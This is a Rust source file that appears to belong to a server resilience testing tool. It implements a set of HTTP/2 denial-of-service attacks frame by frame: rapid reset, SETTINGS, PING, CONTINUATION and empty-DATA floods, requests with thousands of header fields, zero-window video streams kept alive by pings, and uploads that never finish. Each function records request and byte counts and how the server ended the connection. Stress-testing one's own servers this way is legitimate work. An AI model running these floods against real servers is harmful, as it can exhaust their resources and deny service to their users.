//! Attacks over HTTP/2 (RFC 9113), written frame by frame.

mod connection;
mod requests;

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use anyhow::Result;
use http2_frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, SETTINGS, frame, header_block,
    reset,
};

use self::connection::{ending, find_goaway, open, read_windows};
use self::requests::{request_block, request_in_frames};
use super::http::Connection;
use super::in_parallel;
use super::target::{Outcome, Target, VIDEO_HEAD};

/// Number of connections of an attack with many streams.
const CONNECTIONS: usize = 64;

/// Number of connections of each thread of an attack with many connections.
const CONNECTIONS_EACH: usize = 4;

/// Number of streams of a connection: as many as the server allows.
const STREAMS: u32 = 32;

/// Maximum number of requests with too many header fields on a connection.
const MAX_LARGE_REQUESTS: u32 = 1000;

/// Maximum number of steps of a flood on a connection.
const MAX_FLOOD: u32 = 50_000;

/// Number of connections of a flood.
const FLOODS: usize = 4;

pub fn rapid_reset(target: &Target, deadline: Instant) -> Result<Outcome> {
    let request = request_block("GET", "/robots.txt", &[]);
    flood(target, deadline, |number| {
        let stream = 2 * number + 1;
        [
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &request),
            reset(stream),
        ]
        .concat()
    })
}

pub fn settings_flood(target: &Target, deadline: Instant) -> Result<Outcome> {
    flood(target, deadline, |_| frame(SETTINGS, 0, 0, &[]))
}

pub fn ping_flood(target: &Target, deadline: Instant) -> Result<Outcome> {
    flood(target, deadline, |_| frame(PING, 0, 0, &[0; 8]))
}

pub fn continuation_flood(target: &Target, deadline: Instant) -> Result<Outcome> {
    let block = header_block(&[("x-a", "b".repeat(1000).as_str())]);
    flood(target, deadline, |number| match number {
        0 => frame(HEADERS, END_STREAM, 1, &request_block("GET", "/", &[])),
        _ => frame(CONTINUATION, 0, 1, &block),
    })
}

pub fn empty_data_flood(target: &Target, deadline: Instant) -> Result<Outcome> {
    let request = request_block("POST", "/mcp", &[("content-type", "application/json")]);
    flood(target, deadline, |number| match number {
        0 => frame(HEADERS, END_HEADERS, 1, &request),
        _ => frame(DATA, 0, 1, &[]),
    })
}

pub fn many_header_fields(target: &Target, deadline: Instant) -> Result<Outcome> {
    let mut block = request_block("GET", "/", &[]);
    for number in 0..10_000 {
        block.extend(header_block(&[(format!("x-{number}").as_str(), "a")]));
    }
    in_parallel(CONNECTIONS, |_| {
        let mut outcome = Outcome::default();
        let mut connection = open(target, 65_535)?;
        for number in 0..MAX_LARGE_REQUESTS {
            let request = request_in_frames(2 * number + 1, &block);
            // An error means that the server has closed the connection.
            if Instant::now() > deadline || connection.stream.write_all(&request).is_err() {
                break;
            }
            outcome.requests += 1;
            outcome.bytes += request.len() as u64;
        }
        outcome.add_ending(ending(&mut connection, Instant::now()));
        Ok(outcome)
    })
}

/// Streams videos with a flow-control window of zero, and keeps the connections alive by pings.
pub fn closed_windows(target: &Target, deadline: Instant) -> Result<Outcome> {
    let (path, authorization) = &target.video;
    let token = authorization.trim().trim_start_matches("Authorization: ");
    let request = request_block("GET", path, &[("authorization", token)]);
    in_parallel(CONNECTIONS, |_| {
        let mut outcome = Outcome::default();
        let mut connection = open(target, 0)?;
        open_streams(&mut connection, &request, &mut outcome)?;
        while Instant::now() < deadline {
            if connection
                .stream
                .write_all(&frame(PING, 0, 0, &[0; 8]))
                .is_err()
            {
                break;
            }
            std::thread::sleep(Duration::from_millis(200));
        }
        outcome.add_ending(ending(&mut connection, Instant::now()));
        Ok(outcome)
    })
}

/// Makes more requests at a time than the server handles for one client.
pub fn waiting_requests(target: &Target, deadline: Instant) -> Result<Outcome> {
    let request = request_block("GET", "/nope", &[]);
    in_parallel(CONNECTIONS, |_| {
        let mut outcome = Outcome::default();
        let mut connections = Vec::new();
        for _ in 0..CONNECTIONS_EACH {
            let mut connection = open(target, 65_535)?;
            open_streams(&mut connection, &request, &mut outcome)?;
            connections.push(connection);
        }
        for connection in &mut connections {
            outcome.add_ending(ending(connection, deadline));
        }
        Ok(outcome)
    })
}

/// Starts a request on each stream.
fn open_streams(connection: &mut Connection, request: &[u8], outcome: &mut Outcome) -> Result<()> {
    for number in 0..STREAMS {
        let opened = frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, request);
        connection.stream.write_all(&opened)?;
        outcome.requests += 1;
        outcome.bytes += opened.len() as u64;
    }
    Ok(())
}

/// Uploads bodies as long as the server's flow-control windows allow, and never ends them.
pub fn unread_bodies(target: &Target, deadline: Instant) -> Result<Outcome> {
    let path = format!("{}/takes", target.link);
    let fields = [("content-type", "video/mp4"), ("upload-complete", "?0")];
    let request = request_block("POST", &path, &fields);
    in_parallel(CONNECTIONS, |_| {
        let mut outcome = Outcome::default();
        let mut connection = open(target, 65_535)?;
        let (mut connection_window, stream_window) = read_windows(&mut connection);
        let mut video = VIDEO_HEAD.to_vec();
        video.resize(16 << 10, 0);
        for number in 0..STREAMS {
            let stream = 2 * number + 1;
            let mut frames = frame(HEADERS, END_HEADERS, stream, &request);
            let count = stream_window.min(connection_window) / video.len();
            frames.extend(frame(DATA, 0, stream, &video).repeat(count));
            connection_window -= count * video.len();
            outcome.requests += 1;
            outcome.bytes += frames.len() as u64;
            if connection.stream.write_all(&frames).is_err() || Instant::now() > deadline {
                break;
            }
        }
        outcome.add_ending(ending(&mut connection, deadline));
        Ok(outcome)
    })
}

/// Sends frames on a few connections until the server closes them.
fn flood(
    target: &Target,
    deadline: Instant,
    frame_at: impl Fn(u32) -> Vec<u8> + Sync,
) -> Result<Outcome> {
    in_parallel(FLOODS, |_| {
        let mut outcome = Outcome::default();
        let mut connection = open(target, 65_535)?;
        // Responses are read on another thread, because unread ones would block the flood.
        let mut reading = connection.stream.try_clone()?;
        let reader = std::thread::spawn(move || {
            let mut last = Vec::new();
            let mut bytes = [0; 16 << 10];
            while let Ok(read) = reading.read(&mut bytes) {
                if read == 0 {
                    break;
                }
                last.extend_from_slice(&bytes[..read]);
                let start = last.len().saturating_sub(64);
                last.drain(..start);
            }
            last
        });
        for number in 0..MAX_FLOOD {
            let frames = frame_at(number);
            if Instant::now() > deadline || connection.stream.write_all(&frames).is_err() {
                break;
            }
            outcome.requests += 1;
            outcome.bytes += frames.len() as u64;
        }
        let ended = connection
            .stream
            .shutdown(std::net::Shutdown::Write)
            .is_err();
        let last = reader.join().unwrap_or_default();
        outcome.add_ending(match find_goaway(&last) {
            Some(code) => format!("GOAWAY {code}"),
            None if ended => "closed".to_owned(),
            None => "answered".to_owned(),
        });
        Ok(outcome)
    })
}
